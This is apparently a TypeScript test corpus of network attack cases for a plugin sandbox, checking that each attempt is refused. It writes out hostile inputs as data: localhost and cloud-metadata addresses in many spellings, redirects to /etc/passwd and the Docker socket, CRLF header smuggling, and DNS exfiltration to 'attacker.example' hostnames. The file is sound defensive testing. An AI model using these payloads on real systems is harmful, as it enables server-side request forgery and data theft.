import type { Permissions } from "../../../plugin-sdk/permissions.ts";
import type { ErrorCode } from "../../../plugin-sdk/errors.ts";
import {
  type LoopbackAnswer,
  type LoopbackRequest,
  startLoopback,
  zipBomb,
} from "../../../core/ground/platform/net/loopback-server.ts";
import type { AttackCase, AttackStage } from "../../../core/kit/attack/attack-case.ts";
import { refusedTries, type Try } from "./refused-tries.ts";

const invalid: ErrorCode[] = ["invalid_request"];

/** One use of each permission. */
const useOfAll = [
  "await ctx.fetch(`http://127.0.0.1:${stage.victim}/`)",
  "await ctx.connect(`ws://127.0.0.1:${stage.victim}/`)",
  "await ctx.fs.list('.')",
  "await ctx.fs.readText('x')",
  "await ctx.fs.writeText('x', '')",
  "await ctx.env.get('HOME')",
  "await ctx.run('true', [])",
  "await ctx.kv.get('x')",
  "await ctx.kv.set('x', 1)",
];

/** Corpus group G, network: reaching what is not granted, through names, redirects, headers and sizes. */
export const networkCases: readonly AttackCase[] = [
  refusedTries({
    id: "G13",
    name: "not-granted",
    attack: "Asks hosts and ports that are not granted.",
    stage: () =>
      serveVictim(({ port }) => ({ permissions: { net: [`127.0.0.1:${port + 1}`, "api.example.com:443"] } })),
    tries: [
      "await ctx.fetch(`http://127.0.0.1:${stage.victim}/`)",
      "await ctx.fetch(`https://127.0.0.1:${stage.victim}/`)",
      "await ctx.fetch(`http://localhost:${stage.victim}/`)",
      "await ctx.fetch('http://api.example.com/')",
      "await ctx.fetch('https://api.example.com:8443/')",
      "await ctx.fetch('https://example.com/')",
      "await ctx.fetch('https://evil-api.example.com/')",
      "await ctx.fetch('https://api.example.com.evil.example/')",
      "await ctx.fetch('https://x.api.example.com/')",
    ],
  }),
  refusedTries({
    id: "G14",
    name: "inner-addresses",
    attack: "Writes the addresses of this machine, its network and its cloud in every form.",
    stage: () => serveVictim(() => ({ permissions: { net: ["api.example.com:80", "*.example.org:80"] } })),
    tries: [
      ...[
        "127.0.0.1",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "0177.0.0.1",
        "2130706433",
        "0x7f.1",
        "0x7f000001",
        "127.1",
        "0.0.0.0",
        "0",
        "[::]",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "\uff11\uff12\uff17.0.0.1",
        "127\u30020\u30020\u30021",
      ].map((host) => `await ctx.fetch("http://${host}:" + stage.victim + "/")`),
      ...["169.254.169.254", "[fd00:ec2::254]", "[fe80::1]", "10.0.0.1", "192.168.0.1", "100.64.0.1", "168.63.129.16"]
        .map((host) => `await ctx.fetch("http://${host}/latest/meta-data/")`),
      "await ctx.fetch('http://metadata.internal/')",
    ],
  }),
  refusedTries({
    id: "G14",
    name: "local-name",
    attack: "Asks for a local name that is granted at another port only, and for the address behind a granted name.",
    stage: () =>
      serveVictim(({ port }) => ({ permissions: { net: [`localhost:${port + 1}`, `victim.localhost:${port}`] } })),
    tries: [
      "await ctx.fetch(`http://localhost:${stage.victim}/`)",
      "await ctx.fetch(`http://127.0.0.1:${stage.victim}/`)",
      "await ctx.fetch(`http://x.victim.localhost:${stage.victim}/`)",
    ],
  }),
  refusedTries({
    id: "G15",
    name: "another-name-of-the-host",
    attack: "Says it means another host than the one it connects to.",
    stage: () => serveGranted(() => ({ body: "ok" })),
    tries: [
      { act: "await ctx.fetch(stage.granted, { headers: { host: 'metadata.internal' } })", codes: invalid },
      {
        act: "await ctx.fetch(stage.granted, { headers: { 'x-forwarded-host': 'metadata.internal' } })",
        codes: invalid,
      },
    ],
  }),
  refusedTries({
    id: "G16",
    name: "redirects",
    attack:
      "A granted host redirects to what is not granted, to itself without end, and with a password in the address.",
    stage: () =>
      serveGranted(({ path }, victim) => {
        const to: Record<string, string> = {
          "/victim": `http://127.0.0.1:${victim}/`,
          "/relative": `//127.0.0.1:${victim}/`,
          "/localhost": `http://localhost:${victim}/`,
          "/password": `http://u:p@127.0.0.1:${victim}/`,
          "/file": "file:///etc/passwd",
          "/data": "data:text/plain,BREACH",
          "/again": "/again",
          "/chain": "/victim",
          "/broken": "http://[",
        };
        return { status: 302, headers: { location: to[path] ?? "/again" } };
      }),
    tries: [
      "await ctx.fetch(stage.granted + '/victim')",
      "await ctx.fetch(stage.granted + '/victim', { method: 'POST', body: 'x' })",
      "await ctx.fetch(stage.granted + '/relative')",
      "await ctx.fetch(stage.granted + '/localhost')",
      "await ctx.fetch(stage.granted + '/chain')",
      { act: "await ctx.fetch(stage.granted + '/password')", codes: ["invalid_request", "permission_denied"] },
      { act: "await ctx.fetch(stage.granted + '/file')", codes: invalid },
      { act: "await ctx.fetch(stage.granted + '/data')", codes: invalid },
      { act: "await ctx.fetch(stage.granted + '/again')", codes: ["network_error"] },
      { act: "await ctx.fetch(stage.granted + '/broken')", codes: ["network_error"] },
    ],
  }),
  {
    id: "G16",
    name: "credentials-follow",
    attack:
      "A granted host redirects to another granted one, to be handed the credentials that were meant for it alone.",
    stage: async () => {
      const other = await startLoopback(() => ({ body: "ok" }));
      const first = await startLoopback(() => ({
        status: 307,
        headers: { location: `http://127.0.0.1:${other.port}/` },
      }));
      return {
        params: { first: String(first.port) },
        permissions: { net: [`127.0.0.1:${first.port}`, `127.0.0.1:${other.port}`] },
        reached: () => {
          const leaked = other.requests.flatMap(({ headers }) => Object.keys(headers)).find((name) =>
            /auth|key/.test(name)
          );
          if (other.requests.length !== 1) throw new Error("The redirect was not followed.");
          return leaked === undefined ? null : `The other host was sent ${leaked}.`;
        },
        close: async () => void await Promise.all([first.close(), other.close()]),
      };
    },
    body: `
    await ctx.fetch("http://127.0.0.1:" + stage.first + "/", { headers: { authorization: "Bearer x", "x-api-key": "x" } });`,
    expected: { kind: "harmless" },
    withinMs: 10_000,
  },
  refusedTries({
    id: "G17",
    name: "address-spellings",
    attack: "Writes an address so that one reader takes it for the granted host and another for its victim.",
    stage: () => serveGranted(() => ({ body: "ok" })),
    tries: [
      { act: "await ctx.fetch(`http://127.0.0.1:${stage.port}@127.0.0.1:${stage.victim}/`)", codes: invalid },
      { act: "await ctx.fetch(`http://u:p@127.0.0.1:${stage.port}/`)", codes: invalid },
      { act: "await ctx.fetch(`http://127.0.0.1:${stage.port}\\\\@127.0.0.1:${stage.victim}/`)", mayPass: true },
      { act: "await ctx.fetch(`http:\\\\\\\\127.0.0.1:${stage.victim}\\\\`)" },
      { act: "await ctx.fetch(`http://127.0.0.1:${stage.port}#@127.0.0.1:${stage.victim}/`)", mayPass: true },
      { act: "await ctx.fetch(`http://127.0.0.1:${stage.port}?@127.0.0.1:${stage.victim}/`)", mayPass: true },
      { act: "await ctx.fetch(`HTTP://127.0.0.1:${stage.victim}/`)" },
      { act: "await ctx.fetch(`http:/127.0.0.1:${stage.victim}/`)" },
      { act: "await ctx.fetch(` http://127.0.0.1:${stage.victim}/`)" },
      { act: "await ctx.fetch(`http://127.0.0.1:0${stage.victim}/`)" },
      { act: "await ctx.fetch(`http://127.0.0.1.:${stage.victim}/`)" },
      { act: "await ctx.fetch(`http://127.0.0.1%00:${stage.port}/`)", codes: invalid },
      { act: "await ctx.fetch(`http://127.0.0.1:${Number(stage.port) + 65536}/`)", codes: invalid },
      { act: "await ctx.fetch(`http://127.0.0.1:${stage.victim}\\t/`)" },
    ],
  }),
  ...[
    "*:443",
    "*.com:443",
    "*.:443",
    "https://example.com",
    "example.com",
    "example.com:99999",
    "a b:80",
    "127.0.0.1:*",
  ]
    .map((net, index): AttackCase => ({
      id: "G17",
      name: `broad-grant-${index + 1}`,
      attack: `A manifest asks for ${net}, which would open too much or means nothing.`,
      permissions: { net: [net] },
      grant: {},
      expected: { kind: "refused", codes: ["invalid_manifest"] },
      withinMs: 10_000,
    })),
  refusedTries({
    id: "G18",
    name: "other-schemes",
    attack: "Asks by other schemes than http, and through a socket in the file system.",
    stage: () => serveVictim(() => ({ permissions: { net: ["127.0.0.1:80", "127.0.0.1:443", "127.0.0.1:21"] } })),
    tries: [
      ...[
        "file:///etc/passwd",
        "ftp://127.0.0.1/",
        "data:text/plain,BREACH",
        "ws://127.0.0.1/",
        "wss://127.0.0.1/",
        "unix:/var/run/docker.sock",
        "http+unix://%2Fvar%2Frun%2Fdocker.sock/info",
        "javascript:1",
        "blob:https://127.0.0.1/x",
        "gopher://127.0.0.1:80/_x",
        "//127.0.0.1/",
        "/etc/passwd",
        "",
      ].map((url): Try => ({ act: `await ctx.fetch(${JSON.stringify(url)})`, codes: invalid })),
      {
        act:
          "await ctx.fetch('http://127.0.0.1/', { socketPath: '/var/run/docker.sock', hostname: '127.0.0.1', port: " +
          "stage.victim, host: '127.0.0.1:' + stage.victim })",
        codes: ["network_error"],
      },
    ],
  }),
  refusedTries({
    id: "G19",
    name: "headers",
    attack: "Smuggles a request, a route or a credential in headers, a method or a body.",
    stage: () =>
      serveGranted(() => ({ body: "ok" }), (requests) => requests.length > 0 ? "A smuggled request arrived." : null),
    tries: [
      ...[
        ["Host", "victim"],
        ["Cookie", "a=b"],
        ["Proxy-Authorization", "Basic x"],
        ["Proxy-Connection", "keep-alive"],
        ["Sec-Fetch-Site", "same-origin"],
        ["Origin", "http://127.0.0.1"],
        ["Referer", "http://127.0.0.1"],
        ["Connection", "upgrade"],
        ["Upgrade", "websocket"],
        ["Transfer-Encoding", "chunked"],
        ["Content-Length", "0"],
        ["Expect", "100-continue"],
        ["TE", "trailers"],
        ["X-Forwarded-For", "127.0.0.1"],
        ["Forwarded", "for=127.0.0.1"],
        ["Metadata-Flavor", "any"],
        ["X-aws-ec2-metadata-token", "x"],
        ["X-HTTP-Method-Override", "DELETE"],
        ["a", "b\r\nHost: victim"],
        ["a", "b\nc: d"],
        ["a", "b\u0000"],
        ["a", "\u0100"],
        ["a\r\nHost", "victim"],
        ["a b", "c"],
        ["a:b", "c"],
        ["", "x"],
      ].map(([name = "", value]): Try => ({
        act: `await ctx.fetch(stage.granted, { headers: ${JSON.stringify({ [name]: value })} })`,
        codes: invalid,
      })),
      { act: "await ctx.fetch(stage.granted, { headers: { 'X-A': '1', 'x-a': '2' } })", codes: invalid },
      { act: "await ctx.fetch(stage.granted, { method: 'CONNECT' })", codes: invalid },
      { act: "await ctx.fetch(stage.granted, { method: 'TRACE' })", codes: invalid },
      { act: "await ctx.fetch(stage.granted, { method: 'GET / HTTP/1.1\\r\\nX: y' })", codes: invalid },
      { act: "await ctx.fetch(stage.granted, { method: 'GET', body: 'x' })", codes: invalid },
    ],
  }),
  refusedTries({
    id: "G20",
    name: "names-as-a-channel",
    attack: "Carries data out in the names that it asks for.",
    permissions: { net: ["api.example.com:443"], run: [{ binary: "true" }] },
    tries: [
      ...Array.from({ length: 12 }, (_, index) => `await ctx.fetch("https://secret-${index}.attacker.example/")`),
      "await ctx.fetch('https://' + 'a'.repeat(60) + '.api.example.com/')",
      "await ctx.run('nslookup', ['secret.attacker.example'])",
      "await ctx.run('true', ['secret.attacker.example'])",
    ],
  }),
  refusedTries({
    id: "G22",
    name: "bombs",
    attack: "Takes in a compressed bomb, an endless body and a claim of a huge one.",
    limits: { response_bytes: 256 * 1024, timeout_ms: 15_000 },
    stage: () =>
      serveGranted(({ path }): LoopbackAnswer => {
        if (path === "/zip") return { headers: { "content-encoding": "gzip" }, body: zipBomb(64) };
        if (path === "/endless") return { body: endless("x".repeat(16_384)) };
        if (path === "/unknown") return { headers: { "content-encoding": "zstd" }, body: "x" };
        return { headers: { "content-length": String(2 ** 40) }, body: endless("x".repeat(16_384)) };
      }),
    tries: [
      { act: "await (await ctx.fetch(stage.granted + '/zip')).text()", codes: ["too_large"] },
      { act: "await (await ctx.fetch(stage.granted + '/endless')).text()", codes: ["too_large"] },
      { act: "await (await ctx.fetch(stage.granted + '/huge')).text()", codes: ["too_large"] },
      { act: "await ctx.fetch(stage.granted + '/unknown')", codes: ["network_error"] },
    ],
  }),
  refusedTries({
    id: "G22",
    name: "silent-host",
    attack: "Waits for hosts that take the connection and never answer.",
    limits: { call_timeout_ms: 700, timeout_ms: 15_000 },
    stage: () => serveGranted(() => null),
    tries: [{ act: "await ctx.fetch(stage.granted)", codes: ["network_error", "timeout"] }],
  }),
  refusedTries({
    id: "G22",
    name: "open-responses",
    attack: "Opens responses that never end until no socket is left.",
    limits: { timeout_ms: 15_000 },
    stage: () => serveGranted(() => ({ headers: { "content-type": "text/event-stream" }, body: drip(200) })),
    prepare: "const open = []; for (let n = 0; n < 16; n++) open.push(await ctx.fetch(stage.granted));",
    tries: [
      { act: "await ctx.fetch(stage.granted)", codes: ["limit_exceeded"] },
      {
        act: "await Promise.all(Array.from({ length: 50 }, () => ctx.fetch(stage.granted)))",
        codes: ["limit_exceeded"],
      },
    ],
  }),
  {
    id: "G22",
    name: "dripping-body",
    attack: "Reads a body that drips forever.",
    limits: { timeout_ms: 1500, idle_timeout_ms: 1000 },
    stage: () => serveGranted(() => ({ body: drip(100) })),
    body: `
    const response = await ctx.fetch(stage.granted);
    for await (const piece of response.body);`,
    expected: { kind: "error", codes: ["timeout"] },
    withinMs: 8000,
  },
  ...[
    { name: "empty-grant", grant: { net: [], read: [], write: [], env: [], run: [], kv: false } },
    { name: "absent-grant", grant: {} },
    { name: "half-empty-grant", grant: { net: ["other.example:80"], env: ["LANG"], run: [{ binary: "false" }] } },
  ].map(({ name, grant }): AttackCase =>
    refusedTries({
      id: "G23",
      name,
      attack: "Hopes that an empty list of grants means all of them.",
      grant,
      stage: () =>
        serveVictim(({ port }) => ({
          permissions: everything(port),
          grant,
        })),
      tries: useOfAll,
    })
  ),
  refusedTries({
    id: "G23",
    name: "empty-request",
    attack: "Hopes that empty lists in a request narrow nothing.",
    request: { permissions: { net: [], read: [], write: [], env: [], run: [], kv: false } },
    stage: () =>
      serveVictim(({ port }) => ({
        permissions: everything(port),
      })),
    tries: useOfAll,
  }),
  refusedTries({
    id: "G23",
    name: "absent-in-manifest",
    attack: "Is granted everything, and has asked for nothing.",
    stage: () =>
      serveVictim(({ port }) => ({
        permissions: { net: [], run: [] },
        grant: {
          net: [`127.0.0.1:${port}`],
          read: ["/"],
          write: ["/"],
          env: ["HOME"],
          run: [{ binary: "true" }],
          kv: true,
        },
      })),
    tries: useOfAll,
  }),
];

/** A server that no request may reach. */
async function serveVictim(more: (victim: { port: number }) => AttackStage): Promise<AttackStage> {
  const victim = await startLoopback(() => ({ body: "BREACH: a host that was not granted" }));
  const stage = more(victim);
  return {
    ...stage,
    params: { victim: String(victim.port), ...stage.params },
    reached: () => (victim.requests.length > 0 ? `A request reached ${victim.requests[0]?.path}.` : null),
    close: () => victim.close(),
  };
}

/** A server that is granted, and one beside it that no request may reach. */
async function serveGranted(
  answer: (request: LoopbackRequest, victim: number) => LoopbackAnswer | null,
  alsoReached: (requests: readonly LoopbackRequest[]) => string | null = () => null,
): Promise<AttackStage> {
  const victim = await serveVictim(() => ({}));
  const port = Number(victim.params?.["victim"]);
  const granted = await startLoopback((request) => answer(request, port));
  return {
    params: { ...victim.params, port: String(granted.port), granted: `http://127.0.0.1:${granted.port}` },
    permissions: { net: [`127.0.0.1:${granted.port}`] },
    reached: async () => await victim.reached?.() ?? alsoReached(granted.requests),
    close: async () => void await Promise.all([granted.close(), victim.close?.()]),
  };
}

async function* endless(piece: string): AsyncGenerator<string> {
  for (;;) yield piece;
}

async function* drip(ms: number): AsyncGenerator<string> {
  for (;;) {
    yield ".";
    await new Promise((resolve) => setTimeout(resolve, ms));
  }
}

/** A manifest's request for one of each kind. */
function everything(port: number): Permissions {
  return {
    net: [`127.0.0.1:${port}`],
    read: ["workdir"],
    write: ["workdir"],
    env: ["HOME"],
    run: [{ binary: "true" }],
    kv: true,
  };
}
